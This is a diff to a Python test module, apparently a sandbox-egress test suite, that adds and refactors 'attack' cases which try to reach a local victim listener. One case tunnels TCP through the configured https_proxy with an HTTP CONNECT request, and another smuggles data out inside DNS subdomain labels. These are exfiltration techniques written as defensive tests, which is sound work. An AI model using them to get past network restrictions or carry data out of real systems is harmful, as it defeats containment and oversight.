@@ -6,6 +6,7 @@ import mmap
 import os
 import socket
 import struct
+import urllib.parse
 
 import kernel
 from base import Skip, attack, must, must_come, token
@@ -40,6 +41,21 @@ def tcp(world):
 @attack(TOPIC)
 def tcp_loopback(world):
     by_stream(world, "tcp", socket.socket(), tcp(world))
+
+
+@attack(TOPIC)
+def tcp_by_proxy(world):
+    """Has the proxy of the command connect to a host that is not listed; where there is none, connects by itself."""
+    proxy = urllib.parse.urlsplit(os.environ.get("https_proxy") or "")
+    with contextlib.closing(socket.socket()) as sender:
+        if proxy.port is None:
+            sender.connect(tcp(world))
+        else:
+            sender.connect((proxy.hostname, proxy.port))
+            port = world.victim["tcp"]
+            sender.sendall(f"CONNECT localhost:{port} HTTP/1.1\r\nHost: localhost:{port}\r\n\r\n".encode())
+            must(b" 200 " in sender.recv(4096).split(b"\r\n")[0], "by-the-proxy")
+        must_arrive(world, "tcp", sender.sendall)
 
 
 @attack(TOPIC)
@@ -96,21 +112,35 @@ def udp_send(world):
 
 
 def send_udp(world, sender):
+    must_arrive_by_udp(world, sender, lambda data: data)
+
+
+def must_arrive_by_udp(world, sender, packet):
+    """Sends by UDP, and waits until it has arrived, or until the kernel says that nobody listens there."""
+    text = token()
+    has_come = lambda: any(line.startswith("udp ") and text in line for line in world.received())
+
+    def is_decided():
+        refusal = sender.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
+        if refusal:
+            raise OSError(refusal, os.strerror(refusal))
+        return has_come()
+
     with sender:
-        must_arrive(world, "udp", lambda data: sender.sendto(data, ("127.0.0.1", world.victim["udp"])))
+        sender.connect(("127.0.0.1", world.victim["udp"]))
+        sender.send(packet(text.encode()))
+        must_come(is_decided)
 
 
 @attack(TOPIC)
 def dns_query(world):
     """Carries data in the name of a subdomain, to a name server that the victim stands for."""
-    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
 
-        def send(data):
-            labels = b"".join(bytes([len(part)]) + part for part in (data, b"example", b"org"))
-            query = struct.pack("!6H", 1, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!2H", 1, 1)
-            sender.sendto(query, ("127.0.0.1", world.victim["udp"]))
+    def query(data):
+        labels = b"".join(bytes([len(part)]) + part for part in (data, b"example", b"org"))
+        return struct.pack("!6H", 1, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!2H", 1, 1)
 
-        must_arrive(world, "udp", send)
+    must_arrive_by_udp(world, socket.socket(socket.AF_INET, socket.SOCK_DGRAM), query)
 
 
 def echo_request():
